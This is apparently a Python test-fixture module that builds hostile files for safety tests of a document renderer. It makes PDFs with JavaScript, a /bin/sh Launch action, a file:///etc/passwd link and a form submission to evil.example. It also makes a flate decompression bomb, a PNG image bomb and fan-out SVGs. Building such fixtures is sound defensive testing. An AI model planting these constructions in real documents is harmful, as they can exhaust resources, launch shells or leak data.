"""Hostile inputs for the safety tests, built in memory: PDFs with dangerous actions or damaged
streams, image bombs, damaged PNGs, SVGs that refer to themselves or fan out."""

from __future__ import annotations

import io
import struct
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


# ------------------------------------------------------------------------------ PDFs


def _text_content(text: str) -> bytes:
    return f"BT /F1 24 Tf 72 700 Td ({text}) Tj ET".encode("latin-1")


def _font(writer):
    return writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Font"),
        NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica"),
    }))


def plain_pdf(texts: list[str], size=(612, 792)) -> bytes:
    """A PDF with one page per text, each page showing its text."""
    writer = PdfWriter()
    font = _font(writer)
    for text in texts:
        page = writer.add_blank_page(*size)
        content = DecodedStreamObject()
        content.set_data(_text_content(text))
        page[NameObject("/Contents")] = writer._add_object(content)
        page[NameObject("/Resources")] = DictionaryObject({
            NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})
        })
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def padded_pdf(text: str, padding: int) -> bytes:
    """A one-page PDF made `padding` bytes larger by a stream of random bytes (it does not
    compress): a large annex that is quick to make."""
    import os

    writer = PdfWriter(clone_from=io.BytesIO(plain_pdf([text])))
    stream = StreamObject()
    stream._data = os.urandom(padding)
    writer._root_object[NameObject("/BPpadding")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **fields) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in fields.items():
        action[NameObject("/" + key)] = value
    return action


def hostile_annex() -> bytes:
    """Two pages. Page 1 carries links of every kind — safe ones (http, mailto, to page 2) and
    dangerous ones (file:, JavaScript, Launch, GoToR, SubmitForm, a URI whose /Next runs
    JavaScript) — and a filled form field whose appearance says FIELD VALUE SHOWN. The document
    opens with JavaScript, names a JavaScript and embeds a file."""
    writer = PdfWriter()
    font = _font(writer)
    pages = []
    for text in ("Hostile annex page one", "Hostile annex page two"):
        page = writer.add_blank_page(612, 792)
        content = DecodedStreamObject()
        content.set_data(_text_content(text))
        page[NameObject("/Contents")] = writer._add_object(content)
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})})
        pages.append(page)
    js = _action("/JavaScript", JS=TextStringObject("app.alert('pwned')"))
    actions = [
        _action("/URI", URI=TextStringObject("https://www.itu.int/annex-link")),
        _action("/URI", URI=TextStringObject("mailto:delegation@example.org")),
        _action("/GoTo", D=ArrayObject([pages[1].indirect_reference, NameObject("/Fit")])),
        _action("/URI", URI=TextStringObject("file:///etc/passwd")),
        js,
        _action("/Launch", F=TextStringObject("/bin/sh")),
        _action("/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject([NumberObject(0), NameObject("/Fit")])),
        _action("/SubmitForm", F=TextStringObject("https://evil.example/collect")),
        _action("/URI", URI=TextStringObject("https://www.itu.int/next"), Next=js),
    ]
    annotations = []
    for i, action in enumerate(actions):
        y = 650 - 40 * i
        annotations.append(writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(72), FloatObject(y), FloatObject(300), FloatObject(y + 20)]),
            NameObject("/A"): action,
        })))
    appearance = StreamObject()
    appearance._data = b"BT /F1 12 Tf 2 5 Td (FIELD VALUE SHOWN) Tj ET"
    appearance.update({
        NameObject("/Type"): NameObject("/XObject"),
        NameObject("/Subtype"): NameObject("/Form"),
        NameObject("/BBox"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(200), FloatObject(20)]),
        NameObject("/Resources"): DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}),
    })
    annotations.append(writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/Widget"),
        NameObject("/FT"): NameObject("/Tx"),
        NameObject("/T"): TextStringObject("field"),
        NameObject("/V"): TextStringObject("FIELD VALUE SHOWN"),
        NameObject("/Rect"): ArrayObject([FloatObject(72), FloatObject(200), FloatObject(272), FloatObject(220)]),
        NameObject("/AP"): DictionaryObject({NameObject("/N"): writer._add_object(appearance)}),
        NameObject("/AA"): DictionaryObject({NameObject("/K"): js}),
    })))
    pages[0][NameObject("/Annots")] = ArrayObject(annotations)
    writer._root_object[NameObject("/OpenAction")] = js
    named = _action("/JavaScript", JS=TextStringObject("app.alert('named script')"))
    writer._root_object[NameObject("/Names")] = DictionaryObject({
        NameObject("/JavaScript"): DictionaryObject({
            NameObject("/Names"): ArrayObject([TextStringObject("startup"), writer._add_object(named)]),
        }),
    })
    writer.add_attachment("secret.txt", b"embedded secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_with_content_stream(stream: StreamObject) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    page[NameObject("/Contents")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def flate_bomb_pdf(megabytes: int = 260) -> bytes:
    """A one-page PDF whose ~260 KB content stream inflates to `megabytes` MB."""
    deflate = zlib.compressobj(9)
    block = b" " * (1024 * 1024)
    data = b"".join(deflate.compress(block) for _ in range(megabytes)) + deflate.flush()
    stream = StreamObject()
    stream._data = data
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    return _pdf_with_content_stream(stream)


def unknown_filter_pdf() -> bytes:
    stream = StreamObject()
    stream._data = b"\x00\x01\x02 not really compressed"
    stream[NameObject("/Filter")] = NameObject("/NoSuchDecode")
    return _pdf_with_content_stream(stream)


def encrypted_pdf(user_password: str = "secret") -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(plain_pdf(["Encrypted annex page"])))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# ------------------------------------------------------------------------------ images


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(width: int, height: int, *, truncate: bool = False) -> bytes:
    """A grey PNG of `width` × `height` pixels, compressed row by row (a 13,000 × 13,000 one is
    ~170 KB); `truncate`: the image data stops halfway, with every chunk checksum valid."""
    deflate = zlib.compressobj(9)
    row = b"\x00" + b"\x80" * width
    parts = [deflate.compress(row) for _ in range(height)]
    data = b"".join(parts) + deflate.flush()
    if truncate:
        data = data[: len(data) // 2]
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def self_referencing_svg() -> bytes:
    """The tester's 177-byte SVG: two images that name the pack's own resource URL."""
    return f'<svg {SVG_NS} width="10" height="10"><image href="0" width="5" height="5"/><image xlink:href="0" width="5" height="5"/></svg>'.encode()


def fan_out_svg(levels: int = 6, fan: int = 10) -> bytes:
    """~2 KB that would draw fan**levels rectangles through <use>."""
    defs = ['<rect id="l0" width="1" height="1"/>']
    for i in range(1, levels + 1):
        defs.append(f'<g id="l{i}">' + "".join(f'<use href="#l{i - 1}" x="{j}"/>' for j in range(fan)) + "</g>")
    return f'<svg {SVG_NS} viewBox="0 0 100 100"><defs>{"".join(defs)}</defs><use href="#l{levels}"/></svg>'.encode()


def nested_svg(depth: int) -> bytes:
    return (f'<svg {SVG_NS} viewBox="0 0 10 10">' + "<g>" * depth + '<rect width="5" height="5"/>' + "</g>" * depth + "</svg>").encode()


def svg_with(body: str, extra: str = "") -> bytes:
    return f'<svg {SVG_NS} viewBox="0 0 100 50" {extra}>{body}</svg>'.encode()
